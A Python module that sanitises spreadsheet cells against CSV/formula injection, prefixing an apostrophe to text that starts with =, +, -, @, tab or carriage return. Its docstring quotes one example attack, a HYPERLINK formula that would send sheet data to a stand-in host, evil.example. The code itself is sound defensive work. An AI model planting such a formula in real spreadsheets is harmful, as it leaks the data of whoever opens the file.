"""Spreadsheet cells that cannot run: the one rule every CSV and xlsx the project writes applies.

A text cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is read as a
formula by Excel, WPS and LibreOffice (OWASP, "CSV Injection"): a case title such as
``=HYPERLINK("http://evil.example/?x="&A1,"open")`` would become a live link that leaks the
sheet. Such cells get a leading apostrophe, which spreadsheet programs show as plain text.
Numbers, dates and booleans are written as they are: they are data, not text a party typed.
"""

_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value):
    """Return ``value`` fit for a CSV or xlsx cell: text that would start a formula is quoted."""
    if isinstance(value, str) and value.startswith(_FORMULA_STARTS):
        return "'" + value
    return value


def safe_row(values) -> list:
    """Return one row of cells, each through :func:`safe_cell`."""
    return [safe_cell(value) for value in values]
